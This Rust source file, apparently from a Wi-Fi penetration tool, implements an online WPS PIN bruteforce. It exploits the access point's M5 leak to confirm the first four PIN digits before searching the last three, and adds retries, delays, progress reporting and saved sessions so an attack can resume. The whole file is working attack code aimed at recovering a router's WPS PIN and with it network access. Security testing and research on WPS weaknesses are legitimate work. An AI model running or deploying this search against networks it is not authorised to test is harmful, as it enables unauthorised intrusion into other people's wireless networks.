//! Two-phase online PIN bruteforce.
//!
//! The access point leaks whether the first four PIN digits are right
//! (it sends M5) before it checks the rest. Phase 1 searches the 10^4
//! first halves with a fixed `000` second half; phase 2 searches the 10^3
//! second halves for the confirmed first half.

use std::fmt;
use std::str::FromStr;
use std::time::Duration;

use tracing::{info, warn};

use super::session::AttackSession;
use super::stats::BruteforceStats;
use crate::control::WpsEngine;
use crate::domain::{AttackOutcome, MacAddress};
use crate::error::{AttackError, ControlError, PinError};
use crate::pin::format_pin;
use crate::reporter::Severity;
use crate::store::SessionStore;

const FIRST_HALVES: u16 = 10_000;
const SECOND_HALVES: u16 = 1_000;
/// Candidates across both phases, for progress reporting.
const TOTAL_CANDIDATES: f64 = 11_000.0;

/// Search phase.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BruteforcePhase {
    FirstHalf,
    SecondHalf,
}

impl fmt::Display for BruteforcePhase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::FirstHalf => write!(f, "first half"),
            Self::SecondHalf => write!(f, "second half"),
        }
    }
}

/// The next untried candidate.
///
/// Serialized as 4 digits in phase 1 and 7 digits in phase 2.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BruteforceMask {
    FirstHalf(u16),
    SecondHalf { first: u16, second: u16 },
}

impl BruteforceMask {
    pub fn phase(&self) -> BruteforcePhase {
        match self {
            Self::FirstHalf(_) => BruteforcePhase::FirstHalf,
            Self::SecondHalf { .. } => BruteforcePhase::SecondHalf,
        }
    }

    /// Full 8-digit PIN for this candidate.
    pub fn pin(&self) -> String {
        match *self {
            Self::FirstHalf(first) => format_pin(u64::from(first) * 1000),
            Self::SecondHalf { first, second } => {
                format_pin(u64::from(first) * 1000 + u64::from(second))
            }
        }
    }

    /// The following candidate in the same phase.
    pub fn next(&self) -> Option<Self> {
        match *self {
            Self::FirstHalf(first) if first + 1 < FIRST_HALVES => Some(Self::FirstHalf(first + 1)),
            Self::SecondHalf { first, second } if second + 1 < SECOND_HALVES => {
                Some(Self::SecondHalf {
                    first,
                    second: second + 1,
                })
            }
            _ => None,
        }
    }

    /// Start of phase 2 for a confirmed first half. Phase 2 begins at `001`.
    pub fn second_phase(first: u16) -> Self {
        Self::SecondHalf { first, second: 1 }
    }

    /// Share of the whole search space already covered, in percent.
    pub fn progress_percent(&self) -> f64 {
        let done = match *self {
            Self::FirstHalf(first) => f64::from(first),
            Self::SecondHalf { second, .. } => f64::from(FIRST_HALVES) + f64::from(second),
        };
        done / TOTAL_CANDIDATES * 100.0
    }

    /// Mask for an operator-supplied start PIN.
    ///
    /// 7 or more digits select phase 2 at the first 7; 4 to 6 digits
    /// select phase 1 at the first 4. Shorter input is `None`.
    pub fn from_start_pin(pin: &str) -> Result<Option<Self>, PinError> {
        if !pin.bytes().all(|b| b.is_ascii_digit()) {
            return Err(PinError::InvalidMask(pin.to_string()));
        }
        match pin.len() {
            0..=3 => Ok(None),
            4..=6 => pin[..4].parse().map(Some),
            _ => pin[..7].parse().map(Some),
        }
    }
}

impl FromStr for BruteforceMask {
    type Err = PinError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let s = s.trim();
        let invalid = || PinError::InvalidMask(s.to_string());
        if !s.bytes().all(|b| b.is_ascii_digit()) {
            return Err(invalid());
        }
        match s.len() {
            4 => Ok(Self::FirstHalf(s.parse().map_err(|_| invalid())?)),
            7 => Ok(Self::SecondHalf {
                first: s[..4].parse().map_err(|_| invalid())?,
                second: s[4..].parse().map_err(|_| invalid())?,
            }),
            _ => Err(invalid()),
        }
    }
}

impl fmt::Display for BruteforceMask {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::FirstHalf(first) => write!(f, "{:04}", first),
            Self::SecondHalf { first, second } => write!(f, "{:04}{:03}", first, second),
        }
    }
}

/// How a bruteforce run ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BruteforceResult {
    /// The full PIN was confirmed.
    Found { pin: String, outcome: AttackOutcome },
    /// Every candidate of `phase` failed.
    Exhausted { phase: BruteforcePhase },
    /// Stopped by the operator; `mask` is the next untried candidate.
    Interrupted { mask: BruteforceMask },
}

enum Step {
    Retry,
    Advance,
    EnterSecondPhase(u16),
    Done(BruteforceResult),
}

/// Resumable two-phase search on top of an `AttackSession`.
pub struct BruteforceEngine<'s, E: WpsEngine> {
    session: &'s mut AttackSession<E>,
    sessions: Option<SessionStore>,
    max_retries: u32,
    delay: Duration,
    stats: BruteforceStats,
}

impl<'s, E: WpsEngine> BruteforceEngine<'s, E> {
    pub fn new(session: &'s mut AttackSession<E>) -> Self {
        Self {
            session,
            sessions: None,
            max_retries: 1,
            delay: Duration::ZERO,
            stats: BruteforceStats::new(),
        }
    }

    /// Persist masks to this store.
    pub fn with_sessions(mut self, sessions: SessionStore) -> Self {
        self.sessions = Some(sessions);
        self
    }

    /// Retries of one candidate after a transaction failure or timeout.
    ///
    /// A failed transaction then moves on; a timeout is returned as an
    /// error with the candidate saved as untried.
    pub fn with_max_retries(mut self, max_retries: u32) -> Self {
        self.max_retries = max_retries;
        self
    }

    /// Pause between attempts.
    pub fn with_delay(mut self, delay: Duration) -> Self {
        self.delay = delay;
        self
    }

    /// Search from `start` until found, exhausted or interrupted.
    ///
    /// Fatal errors are returned after the current mask is persisted.
    pub fn run(
        &mut self,
        bssid: MacAddress,
        start: BruteforceMask,
    ) -> Result<BruteforceResult, AttackError> {
        let mut mask = start;
        let mut retries = 0u32;
        info!("Bruteforce of {} starting at mask {}", bssid, mask);

        loop {
            let step = match self.session.attempt(bssid, &mask.pin()) {
                Ok(outcome) if outcome.trace_closed => {
                    self.persist(bssid, mask);
                    return Err(ControlError::EngineExited.into());
                }
                Ok(outcome) => Self::evaluate(mask, outcome),
                Err(AttackError::Interrupted) => {
                    self.persist(bssid, mask);
                    return Ok(BruteforceResult::Interrupted { mask });
                }
                Err(AttackError::Control(e)) if e.is_timeout() && retries < self.max_retries => {
                    warn!("PIN {} timed out: {}", mask.pin(), e);
                    retries += 1;
                    self.wait(bssid, mask)?;
                    continue;
                }
                Err(e) => {
                    self.persist(bssid, mask);
                    return Err(e);
                }
            };

            mask = match step {
                Step::Done(result) => {
                    self.clear(bssid);
                    return Ok(result);
                }
                Step::Retry if retries < self.max_retries => {
                    retries += 1;
                    self.session
                        .reporter()
                        .notice(Severity::Warning, "WPS transaction failed, re-trying last pin");
                    self.wait(bssid, mask)?;
                    continue;
                }
                Step::EnterSecondPhase(first) => {
                    self.session
                        .reporter()
                        .notice(Severity::Success, &format!("First half found: {:04}", first));
                    BruteforceMask::second_phase(first)
                }
                Step::Retry | Step::Advance => match mask.next() {
                    Some(next) => next,
                    None => {
                        self.clear(bssid);
                        let phase = mask.phase();
                        self.session
                            .reporter()
                            .notice(Severity::Error, &format!("{} not found", phase));
                        return Ok(BruteforceResult::Exhausted { phase });
                    }
                },
            };
            retries = 0;

            if let Some(report) = self
                .stats
                .register_attempt(&mask.to_string(), mask.progress_percent())
            {
                self.session.reporter().on_progress(&report);
            }
            self.wait(bssid, mask)?;
        }
    }

    fn evaluate(mask: BruteforceMask, outcome: AttackOutcome) -> Step {
        let found = match mask {
            BruteforceMask::FirstHalf(_) => outcome.success,
            BruteforceMask::SecondHalf { .. } => outcome.success || outcome.is_second_half_valid(),
        };
        if found {
            return Step::Done(BruteforceResult::Found {
                pin: mask.pin(),
                outcome,
            });
        }
        if let BruteforceMask::FirstHalf(first) = mask {
            if outcome.first_half_valid {
                return Step::EnterSecondPhase(first);
            }
        }
        if outcome.is_transaction_failure() {
            Step::Retry
        } else {
            Step::Advance
        }
    }

    /// Inter-attempt delay; an interrupt here saves `mask` as untried.
    fn wait(&self, bssid: MacAddress, mask: BruteforceMask) -> Result<(), AttackError> {
        if self.delay.is_zero() && !self.session.stop_requested() {
            return Ok(());
        }
        self.session.pause(self.delay).map_err(|e| {
            self.persist(bssid, mask);
            e
        })
    }

    fn persist(&self, bssid: MacAddress, mask: BruteforceMask) {
        let Some(sessions) = &self.sessions else {
            return;
        };
        match sessions.save_mask(bssid, &mask.to_string()) {
            Ok(()) => self.session.reporter().notice(
                Severity::Info,
                &format!("Session saved in {}", sessions.mask_path(bssid).display()),
            ),
            Err(e) => warn!("Failed to save session: {}", e),
        }
    }

    fn clear(&self, bssid: MacAddress) {
        if let Some(sessions) = &self.sessions {
            if let Err(e) = sessions.clear_mask(bssid) {
                warn!("Failed to remove session file: {}", e);
            }
        }
    }
}
